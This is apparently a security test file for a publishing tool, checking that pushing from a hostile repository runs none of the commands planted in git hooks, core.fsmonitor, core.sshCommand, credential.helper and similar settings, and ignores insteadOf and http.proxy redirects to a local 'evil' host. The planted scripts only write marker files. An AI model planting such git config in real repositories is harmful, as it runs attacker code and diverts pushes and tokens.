/**
 * ATTACK: the user's repository is hostile input (an agent, or whoever wrote its config, may have
 * planted commands). Its .git/config plants a command in every place git would run one during a push
 * — hooks in .git/hooks and in core.hooksPath, core.fsmonitor, core.sshCommand, core.askPass,
 * core.gitProxy, credential.helper, remote.origin.receivepack/uploadpack, an include.path whose file
 * plants more — and sends the push elsewhere (url.<evil>.insteadOf / pushInsteadOf, http.proxy). Each
 * planted command writes a marker file if run. Publishing must run none of them, push to the forge
 * (the evil host sees nothing) and open the pull request; an ssh remote must not run core.sshCommand;
 * .git/objects as a symbolic link out of the repository is refused with a clear error.
 */
import { execFile } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  renameSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { preparePublish, publishRun } from '../../src/forge/index.js';
import type { Store } from '../../src/store/index.js';
import { openTestStore } from '../helpers/db.js';
import { type FakeForge, startFakeForge } from './fake-forge/server.js';
import { finishedRun, gitIn, remoteBranch, seedRemote } from './run-fixture.js';

const TOKEN = 'forge-token-hostile-0001';
let store: Store;
const closers: Array<() => Promise<void>> = [];

beforeAll(async () => {
  store = await openTestStore();
});
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});
afterAll(async () => {
  await store.close();
});

/** A host that records every request it gets (the push must never come here). */
async function evilHost(): Promise<{ origin: string; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url} ${req.headers.authorization ?? ''}`);
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  closers.push(() => new Promise((resolve) => server.close(() => resolve())));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

/** A script that writes `markers/<name>` when run; its path. */
function planted(markers: string, dir: string, name: string): string {
  const file = join(dir, name);
  writeFileSync(file, `#!/bin/sh\ntouch '${join(markers, name)}'\nexit 1\n`);
  chmodSync(file, 0o755);
  return file;
}

/** Plants a command everywhere git could run one and points the push elsewhere. */
function plantEverything(repo: string, forge: FakeForge, evil: string): string {
  const markers = mkdtempSync(join(tmpdir(), 'colony-markers-'));
  const scripts = mkdtempSync(join(tmpdir(), 'colony-planted-'));
  const hooksDir = join(scripts, 'hooks');
  mkdirSync(hooksDir);
  const hookNames = [
    'pre-push',
    'reference-transaction',
    'post-update',
    'pre-receive',
    'push-to-checkout',
    'post-checkout',
  ];
  for (const hook of hookNames) {
    planted(markers, join(repo, '.git', 'hooks'), hook);
    planted(markers, hooksDir, `hooksPath-${hook}`);
    // core.hooksPath finds hooks by their own names.
    writeFileSync(join(hooksDir, hook), `#!/bin/sh\ntouch '${join(markers, `hooksPath-${hook}`)}'\n`);
    chmodSync(join(hooksDir, hook), 0o755);
  }
  const set = (key: string, value: string) => gitIn(repo, 'config', '--add', key, value);
  set('core.hooksPath', hooksDir);
  set('core.fsmonitor', planted(markers, scripts, 'fsmonitor'));
  set('core.sshCommand', planted(markers, scripts, 'sshCommand'));
  set('core.askPass', planted(markers, scripts, 'askPass'));
  set('core.gitProxy', planted(markers, scripts, 'gitProxy'));
  set('credential.helper', `!${planted(markers, scripts, 'credential-helper')}`);
  set(`credential.${forge.origin}.helper`, `!${planted(markers, scripts, 'credential-helper-for-host')}`);
  set('remote.origin.receivepack', planted(markers, scripts, 'receivepack'));
  set('remote.origin.uploadpack', planted(markers, scripts, 'uploadpack'));
  set(`url.${evil}/.insteadOf`, `${forge.origin}/`);
  set(`url.${evil}/stolen/.pushInsteadOf`, `${forge.origin}/`);
  set('http.proxy', evil);
  set('http.extraHeader', 'X-Planted: 1');
  const included = join(scripts, 'included.config');
  writeFileSync(
    included,
    `[core]\n\tfsmonitor = ${planted(markers, scripts, 'included-fsmonitor')}\n[remote "origin"]\n\turl = ${evil}/included.git\n`,
  );
  set('include.path', included);
  set(`includeIf.gitdir:${repo}/.path`, included);
  return markers;
}

async function setUp() {
  const forge = await startFakeForge({ kind: 'gitea', token: TOKEN, repoPath: 'acme/widgets' });
  closers.push(forge.close);
  const run = await finishedRun(store);
  seedRemote(run.repo, forge.bare);
  gitIn(run.repo, 'remote', 'add', 'origin', forge.gitUrl);
  return { forge, run };
}

describe('publishing from a hostile repository', () => {
  it('runs none of the planted commands and pushes to the forge, not where the config points', async () => {
    const { forge, run } = await setUp();
    const evil = await evilHost();
    const markers = plantEverything(run.repo, forge, evil.origin);
    // The planted config works: git itself, in that repository, runs a planted command, and its own
    // push goes to the evil host.
    expect(() => gitIn(run.repo, 'status')).not.toThrow();
    expect(readdirSync(markers)).toContain('included-fsmonitor');
    // Asynchronously: the evil host answers from this process.
    const own = await new Promise<{ code: number; stderr: string }>((resolve) =>
      execFile(
        'git',
        ['push', 'origin', run.branch],
        { cwd: run.repo, timeout: 20_000, env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } },
        (error, _stdout, stderr) => resolve({ code: error ? 1 : 0, stderr }),
      ),
    );
    expect(own.code, own.stderr).not.toBe(0);
    expect(evil.seen.length, own.stderr).toBeGreaterThan(0);
    evil.seen.splice(0);
    // Start clean: only what publishing runs may appear from here on.
    for (const marker of readdirSync(markers))
      renameSync(join(markers, marker), join(markers, `${marker}.by-git`));

    const prepared = await preparePublish(
      run.repo,
      {
        remote: 'origin',
        pullRequest: { draft: false, labels: [], reviewers: [] },
        perMergeRequest: false,
        forge: 'gitea',
        forgeApi: forge.apiBase,
      },
      { GITEA_TOKEN: TOKEN },
    );
    if (!prepared.ok) throw new Error(prepared.error);
    expect(prepared.value.remote.url).toBe(forge.gitUrl);
    const published = await publishRun(store.log, run.runId, prepared.value);
    if (!published.ok) throw new Error(published.error);

    expect(readdirSync(markers).filter((m) => !m.endsWith('.by-git'))).toEqual([]);
    expect(evil.seen).toEqual([]);
    expect(remoteBranch(forge.bare, run.branch)).toBe(run.resultCommit);
    expect(forge.pulls).toHaveLength(1);
    expect(forge.violations).toEqual([]);
  });

  it("does not run the repository's core.sshCommand for an ssh remote", async () => {
    const { forge, run } = await setUp();
    const evil = await evilHost();
    const markers = plantEverything(run.repo, forge, evil.origin);
    for (const marker of readdirSync(markers))
      renameSync(join(markers, marker), join(markers, `${marker}.old`));
    // Nothing listens on port 1: the push fails, and must fail without the planted command.
    const prepared = await preparePublish(
      run.repo,
      { remote: 'ssh://git@127.0.0.1:1/acme/widgets.git', pullRequest: null, perMergeRequest: false },
      {},
    );
    if (!prepared.ok) throw new Error(prepared.error);
    const published = await publishRun(store.log, run.runId, prepared.value);
    expect(published.ok).toBe(false);
    if (!published.ok)
      expect(published.error).toMatch(/push to ssh:\/\/127\.0\.0\.1:1\/acme\/widgets\.git failed/);
    expect(readdirSync(markers).filter((m) => !m.endsWith('.old'))).toEqual([]);
    expect(evil.seen).toEqual([]);
  });

  it('refuses .git/objects that is a symbolic link out of the repository', async () => {
    const { forge, run } = await setUp();
    const elsewhere = join(mkdtempSync(join(tmpdir(), 'colony-objects-elsewhere-')), 'objects');
    renameSync(join(run.repo, '.git', 'objects'), elsewhere);
    symlinkSync(elsewhere, join(run.repo, '.git', 'objects'));
    const prepared = await preparePublish(
      run.repo,
      {
        remote: 'origin',
        pullRequest: null,
        perMergeRequest: false,
        forge: 'gitea',
        forgeApi: forge.apiBase,
      },
      { GITEA_TOKEN: TOKEN },
    );
    if (!prepared.ok) throw new Error(prepared.error);
    const published = await publishRun(store.log, run.runId, prepared.value);
    expect(published.ok).toBe(false);
    if (!published.ok)
      expect(published.error).toMatch(
        /\.git\/objects is not a plain folder \(a symbolic link\?\): Colony does not follow it/,
      );
    expect(remoteBranch(forge.bare, run.branch)).toBeNull();
    expect(existsSync(elsewhere)).toBe(true);
    const failed = (await store.log.read(run.runId)).find((e) => e.kind === 'publish.failed');
    expect(failed?.data).toMatchObject({ step: 'push' });
  });
});
